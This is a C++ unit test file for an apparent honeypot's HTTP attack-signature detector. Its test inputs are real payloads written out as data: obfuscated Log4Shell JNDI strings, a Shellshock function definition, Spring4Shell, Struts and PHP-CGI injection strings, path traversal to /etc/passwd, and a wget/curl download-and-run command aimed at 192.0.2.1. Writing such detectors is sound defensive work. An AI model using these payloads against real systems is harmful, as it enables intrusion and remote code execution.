// SPDX-License-Identifier: Apache-2.0
#include "recognition/http_signs.h"

#include <gtest/gtest.h>

namespace hitme::recognition {
namespace {

std::string names_in_text(std::string_view text) {
    std::string all;
    for (const HttpSign& each : signs_in_text(text))
        all += each.name + " " + std::string(name_of(each.grade)) + ";";
    return all;
}
std::string names_in_target(std::string_view method, std::string_view target) {
    wire::HttpRequest request;
    request.method = method;
    request.target = target;
    std::string all;
    for (const HttpSign& each : signs_in_target(request))
        all += each.name + " " + std::string(name_of(each.grade)) + ";";
    return all;
}

TEST(HttpSigns, FindsJndiLookupsHoweverTheyAreWritten) {  // CVE-2021-44228
    for (const std::string_view text :
         {"${jndi:ldap://192.0.2.1/a}", "x ${JNDI:dns://a.example} y",
          "${${lower:j}${upper:n}di:rmi://192.0.2.1/a}", "%24%7Bjndi:ldap://192.0.2.1/a%7D",
          "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.1/a}",
          "${${env:NOTHING:-j}ndi:ldap://192.0.2.1/a}"})
        EXPECT_EQ(names_in_text(text), "Log4Shell certain;") << text;
    EXPECT_EQ(names_in_text("${java:version} jndi: is a word"), "");
}

TEST(HttpSigns, FindsAFunctionDefinitionInAValue) {  // CVE-2014-6271
    EXPECT_EQ(names_in_text("() { :; }; echo; /bin/id"), "Shellshock certain;");
    EXPECT_EQ(names_in_text("f() { }"), "");
}

TEST(HttpSigns, FindsParametersAndExpressionsOfAdvisories) {
    EXPECT_EQ(names_in_text(
                  "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp"),
              "Spring4Shell certain;");
    EXPECT_EQ(
        names_in_text(
            "/?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo"),
        "ThinkPHP invokefunction certain;");
    EXPECT_EQ(names_in_text("%{(#_='multipart/form-data').(#_memberAccess=@a@b)}"),
              "Struts OGNL injection certain;");
    EXPECT_EQ(names_in_text("/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"),
              "PHP-CGI argument injection certain;");
}

TEST(HttpSigns, FindsFetchesBehindAShellsSeparator) {
    EXPECT_EQ(names_in_text("/cgi-bin/;cd+/tmp;wget+http://192.0.2.1/x.sh;sh+x.sh"),
              "shell download likely;");
    EXPECT_EQ(names_in_text("ping=$(curl http://192.0.2.1/x)"), "shell download likely;");
    EXPECT_EQ(names_in_text("curl/7.88.1"), "");
    EXPECT_EQ(names_in_text("/docs/wget?page=http://192.0.2.1/&a=1"), "");
}

TEST(HttpSigns, FindsPathsThatClimbAboveTheirRoot) {
    EXPECT_EQ(names_in_target("GET", "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"),
              "Apache path traversal certain;");
    EXPECT_EQ(names_in_target("GET", "/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh"),
              "Apache path traversal certain;");
    EXPECT_EQ(names_in_target("GET", "/a/../../x"), "path traversal likely;");
    EXPECT_EQ(names_in_target("GET", "/x?file=../../../../etc/passwd"), "path traversal certain;");
    EXPECT_EQ(names_in_target("GET", "/a/../b"), "");
    EXPECT_EQ(depth_above_root("/a/../../../b"), 2);
    EXPECT_EQ(depth_above_root("/a/b/../.."), 0);
}

TEST(HttpSigns, TellsAskingFromTryingAndUploading) {
    EXPECT_EQ(names_in_target("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"),
              "PHPUnit eval-stdin likely;");
    EXPECT_EQ(names_in_target("POST", "/vendor/phpunit/src/Util/PHP/eval-stdin.php"),
              "PHPUnit eval-stdin certain;");
    EXPECT_EQ(names_in_target("PUT", "/shell.jsp/"), "script upload certain;");
    EXPECT_EQ(names_in_target("PUT", "/a.txt"), "");
    EXPECT_EQ(names_in_target("GET", "/app/.env"), "secret file probe certain;");
    EXPECT_EQ(names_in_target("GET", "/environment"), "");
}

}  // namespace
}  // namespace hitme::recognition
